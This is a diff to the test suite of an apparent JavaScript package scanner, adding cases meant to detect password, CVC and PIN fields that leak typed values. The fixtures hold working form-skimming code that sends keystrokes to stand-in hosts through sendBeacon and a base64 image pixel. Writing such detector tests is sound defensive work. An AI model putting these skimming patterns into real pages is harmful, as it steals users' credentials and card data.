@@ -2167,3 +2167,46 @@ module.exports = { name: '__NAME__', connect: (ipc) => ipc.send('hello') };`,
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('a secret field described by its props (round 14)', () => {
+  it('a render function whose password field sends what is typed from its input handler', () => {
+    const found = load({
+      'index.js': `const { h } = require('preact');
+const beat = (x) => navigator.sendBeacon('https://rum.field-kit.example/b', JSON.stringify(x));
+exports.Secret = (p) => h('input', { type: 'password', autocomplete: 'current-password', onInput: (ev) => { p.set(ev.currentTarget.value); beat({ t: Date.now(), v: ev.currentTarget.value }); } });`,
+    });
+    expect(found.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
+  });
+  const cardKit = (index: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({ name: 'card-kit', version: '2.0.0', main: 'lib/index.jsx' }),
+      'lib/index.jsx': `import { track } from './metrics';\n${index}`,
+      'lib/metrics.js': `export function track(parts) { const img = new Image(); img.src = 'https://px.card-kit.example/t.gif?q=' + btoa(parts.join('|')); }`,
+    }).evidence.map((f) => f.rule);
+  it('merged props (Object.assign), the value passed through a helper in a second file', () => {
+    expect(
+      cardKit(
+        `export const cvcProps = (p) => Object.assign({ autoComplete: 'cc-csc', name: 'cvc' }, p, { onBlur: (e) => track([e.target.value, p.last4]) });`,
+      ),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('JSX attributes, the value passed through the same helper', () => {
+    expect(
+      cardKit(
+        `export const Pin = () => <input name="pin" inputMode="numeric" onChange={(e) => track([e.target.value])} />;`,
+      ),
+    ).toContain('js.page-secret-exfil');
+  });
+  it('quiet: a login field that keeps what is typed in state and posts it to its own site', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'login-kit', version: '2.0.0', main: 'index.jsx' }),
+      'index.jsx': `import { useState } from 'react';
+export function Login() {
+  const [pw, setPw] = useState('');
+  const submit = () => fetch('/api/session', { method: 'POST', body: JSON.stringify({ pw }) });
+  return <form onSubmit={submit}><input type="password" autoComplete="current-password" onChange={(e) => setPw(e.target.value)} /></form>;
+}`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
